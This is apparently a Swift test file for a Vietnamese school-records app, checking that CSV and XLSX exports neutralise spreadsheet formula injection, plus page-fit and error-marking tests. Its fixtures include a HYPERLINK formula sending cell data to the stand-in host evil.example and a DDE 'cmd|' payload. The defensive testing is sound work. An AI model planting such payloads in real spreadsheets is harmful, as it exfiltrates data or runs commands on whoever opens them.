import Foundation
import HocBaCore
import Testing
@testable import HocBaOffice

/// Downloaded lists never hand a spreadsheet a formula (OWASP "CSV injection").
struct ListExportTests {
    static let hostile = [#"=HYPERLINK("http://evil.example/?x="&A2,"x")"#, "@SUM(1)", "-2+3+cmd|' /C calc'!A0", "+1",
                          "\tTab", "\rCR", "\r\nCRLF"]

    @Test func csvTextThatStartsLikeAFormulaIsPrefixedWithAQuote() {
        let csv = String(decoding: ListExport.csv(headers: ["Tên", "Số"],
                                                  rows: Self.hostile.map { [.text($0), .integer(-5)] }), as: UTF8.self)
        let lines = csv.dropFirst().components(separatedBy: "\r\n")
        #expect(lines[1] == #""'=HYPERLINK(""http://evil.example/?x=""&A2,""x"")",-5"#)
        #expect(lines[2] == "'@SUM(1),-5")
        #expect(lines[3] == "'-2+3+cmd|' /C calc'!A0,-5")
        #expect(lines[4] == "'+1,-5")
        #expect(lines[5] == "'\tTab,-5")
        #expect(lines[6] == "\"'\rCR\",-5")
        #expect(csv.contains("\"'\r\nCRLF\",-5"))
        // Ordinary text, a quote or dash inside, numbers and dates are untouched.
        let plain = String(decoding: ListExport.csv(headers: ["a"], rows: [[.text("Nguyễn Văn A-B"), .text("O'Neil"),
                                                                              .day(Day(2020, 1, 2)), .integer(7)]]),
                           as: UTF8.self)
        #expect(plain.hasSuffix("Nguyễn Văn A-B,O'Neil,02/01/2020,7\r\n"))
    }

    /// The xlsx download writes text as shared strings: never a formula, whatever the text.
    @Test func xlsxWritesHostileTextAsStringsNotFormulas() throws {
        let workbook = ListExport.workbook(title: "Cán bộ", headers: ["Tên"], rows: Self.hostile.map { [.text($0)] })
        let parts = try unzipParts(try XLSXWriter.write(workbook))
        let sheet = try #require(parts["xl/worksheets/sheet1.xml"])
        #expect(!sheet.contains("<f>") && !sheet.contains("<f "))
        #expect(parts["xl/sharedStrings.xml"]?.contains("=HYPERLINK(&quot;http://evil.example/") == true)
    }

    /// The summary report's workbook prints every column on the page's width, each sheet of it.
    @Test func theSummaryWorkbookFitsThePageWidth() throws {
        let json = try #require(repositoryFile("Tests/HocBaStoreTests/__Snapshots__/summary-2016-2020.json", from: #filePath))
        let report = try JSONDecoder().decode(SummaryReport.self, from: try Data(contentsOf: json))
        let workbook = SummaryReportExport.workbook(report, .init(scopeName: nil, typeLabels: [:], sourceLabels: [:],
                                                                  narrative: ["Đoạn một."], provinceName: "Bắc Kạn",
                                                                  issuedOn: Day(2021, 1, 15)))
        let parts = try unzipParts(try XLSXWriter.write(workbook))
        let sheets = parts.filter { $0.key.hasPrefix("xl/worksheets/sheet") }
        #expect(sheets.count == workbook.sheets.count && !sheets.isEmpty)
        for (name, xml) in sheets { #expect(xml.contains("fitToWidth=\"1\""), "\(name)") }
    }

    /// Printed from Excel, a list fits the page's width, on a landscape page when it has many columns.
    @Test func listsPrintToThePageWidth() throws {
        for (columns, orientation) in [(3, "portrait"), (8, "landscape")] {
            let headers = (1...columns).map { "Cột \($0)" }
            let workbook = ListExport.workbook(title: "Cán bộ", headers: headers,
                                               rows: [headers.map { .text($0) }])
            let sheet = try #require(try unzipParts(try XLSXWriter.write(workbook))["xl/worksheets/sheet1.xml"])
            #expect(sheet.contains("<pageSetUpPr fitToPage=\"1\"/>"))
            #expect(sheet.contains("orientation=\"\(orientation)\" fitToWidth=\"1\" fitToHeight=\"0\""))
        }
    }
}

/// A file with problems comes back with the bad cells filled and each row's messages in a last column.
struct ProblemWorkbookTests {
    @Test func badCellsAreMarkedAndRowsCarryTheirMessages() throws {
        let url = FileManager.default.temporaryDirectory.appendingPathComponent("CanBo-\(UUID().uuidString).csv")
        defer { try? FileManager.default.removeItem(at: url) }
        try Data("Ma can bo,Ho va ten,Ma don vi,Doi tuong\nP1,Nguyễn Văn An,BB,CC\nP2,,XX,CC\n".utf8).write(to: url)
        let clean = FileManager.default.temporaryDirectory.appendingPathComponent("VanBang-\(UUID().uuidString).csv")
        defer { try? FileManager.default.removeItem(at: clean) }
        try Data("Ma can bo,Loai,Trinh do,Ngay cap\nP1,CHUYEN-MON,DAI-HOC,01/06/2008\n".utf8).write(to: clean)
        let sources = [WorkbookReading.Source(name: "CanBo.csv", url: url), .init(name: "VanBang.csv", url: clean)]
        let problems = [
            ImportProblem(sheet: "CanBo", row: 3, column: "Họ và tên", message: "Thiếu họ và tên."),
            ImportProblem(sheet: "CanBo", row: 3, column: "Mã đơn vị", message: "Không có đơn vị mã \"XX\"."),
            // A header problem (SheetImporter gives it the header's row) and a sheet the file lacks.
            ImportProblem(sheet: "CanBo", row: 1, column: nil, message: "Cột Giới tính có hai lần."),
            ImportProblem(sheet: "HocVien", row: nil, column: nil, message: "Thiếu cột Mã lớp."),
        ]
        let workbook = try ProblemWorkbook.workbook(sources, problems: problems, moreProblems: 7)
        // The clean sheet comes back too, so that the corrected file imports whole.
        #expect(workbook.sheets.map(\.name) == ["CanBo", "VanBang", "Lỗi khác"])
        #expect(workbook.sheets[1].rows.count == 2)
        let others = workbook.sheets[2].rows.flatMap { $0.map(\.value) }
        #expect(others.contains(.text("Cột Giới tính có hai lần.")))
        #expect(others.contains { if case .text(let text) = $0 { text.contains("7 lỗi khác") } else { false } })
        let sheet = workbook.sheets[0]
        #expect(sheet.rows.count == 3)
        #expect(sheet.rows[0].last?.value == .text("Lỗi"))
        // Row 2 of the file is clean; row 3 has two bad cells and both messages.
        #expect(sheet.rows[1].allSatisfy { $0.style.fill == .none })
        #expect(sheet.rows[2].enumerated().filter { $0.element.style.fill == ProblemWorkbook.marked.fill }.map(\.offset) == [1, 2])
        #expect(sheet.rows[2].last?.value == .text("Thiếu họ và tên.\nKhông có đơn vị mã \"XX\"."))
        #expect(others.contains(.text("Thiếu cột Mã lớp.")))
        // It is a workbook Excel opens: it writes.
        #expect(try XLSXWriter.write(workbook).count > 1_000)
    }
}
